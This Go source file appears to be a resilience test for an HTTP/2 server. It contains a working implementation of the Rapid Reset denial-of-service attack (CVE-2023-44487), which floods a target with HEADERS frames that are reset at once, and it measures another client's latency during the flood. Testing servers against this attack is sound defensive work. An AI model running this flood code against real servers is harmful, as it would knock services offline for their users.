package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	nethttp "net/http"
	"sync"
	"sync/atomic"
	"time"

	xhttp2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Rapid resets (CVE-2023-44487): requests that are reset at once, so many a second.
const (
	resetRate  = 10_000
	resetBatch = 100
)

// resets has one client reset requests for some seconds and measures another one before
// and meanwhile. What that waits for is told; only on a whole run, which has the
// machine for itself, more than twice as long is a failure.
func (h *h2) resets(seconds int) (string, error) {
	ctx, cancel := context.WithCancel(h.r.ctx)
	defer cancel()
	tr := &nethttp.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true}
	defer tr.CloseIdleConnections()
	client := &nethttp.Client{Transport: tr, Timeout: 20 * time.Second}
	var l latencies
	var wait sync.WaitGroup
	wait.Go(func() {
		l.every(ctx, 5*time.Millisecond, func() error { return h.fetch(client) })
	})
	sleep(ctx, time.Duration(min(seconds, 10))*time.Second)
	l.begin()
	a := attacker{address: h.j.https}
	err := a.run(ctx, time.Duration(seconds)*time.Second)
	cancel()
	wait.Wait()
	if err != nil {
		return "", err
	}
	said, err := l.verdict()
	said = fmt.Sprintf("%d resets in %d s on %d connections, of which the server ended %d; another client: %s", a.sent, seconds, a.connections, a.ended.Load(), said)
	if before, during := p99(l.calm), p99(l.busy); err == nil && h.r.mode != "ci" && during > 2*before && during > before+5 {
		err = errors.New(said)
	}
	return said, err
}

func (h *h2) fetch(client *nethttp.Client) error {
	resp, err := client.Get("https://" + h.j.https + "/small.txt")
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || resp.ProtoMajor != 2 {
		return fmt.Errorf("%s %s", resp.Proto, resp.Status)
	}
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// attacker is a client that resets what it asks for, from an address of its own.
type attacker struct {
	address           string
	sent, connections int
	ended             atomic.Int64 // connections that the server has ended
}

// run attacks for d, on a new connection whenever the server has ended one.
func (a *attacker) run(ctx context.Context, d time.Duration) error {
	end := time.Now().Add(d)
	for ctx.Err() == nil && time.Now().Before(end) {
		if err := a.connection(ctx, end); err != nil {
			return err
		}
	}
	return nil
}

// connection attacks on one connection until it ends. An error is that of the dial.
func (a *attacker) connection(ctx context.Context, end time.Time) error {
	d := tls.Dialer{NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: 10 * time.Second},
		Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	c, err := d.DialContext(ctx, "tcp", a.address)
	if err != nil {
		return err
	}
	a.connections++
	done := make(chan struct{})
	go func() {
		defer close(done)
		io.Copy(io.Discard, c)
		if time.Now().Before(end) {
			a.ended.Add(1)
		}
	}()
	defer func() { c.Close(); <-done }()
	var out bytes.Buffer
	out.WriteString(xhttp2.ClientPreface)
	f := xhttp2.NewFramer(&out, nil)
	f.WriteSettings()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", a.address}, {":path", "/small.txt"}} {
		enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // no table: each block is the same
	}
	tick := time.NewTicker(time.Second * resetBatch / resetRate)
	defer tick.Stop()
	for id := uint32(1); time.Now().Before(end) && id < 1<<30; {
		for range resetBatch {
			f.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
			f.WriteRSTStream(id, xhttp2.ErrCodeCancel)
			id += 2
		}
		if _, err := c.Write(out.Bytes()); err != nil {
			return nil // ended, as it should be
		}
		a.sent += resetBatch
		out.Reset()
		select {
		case <-tick.C:
		case <-done:
			return nil
		}
	}
	return nil
}
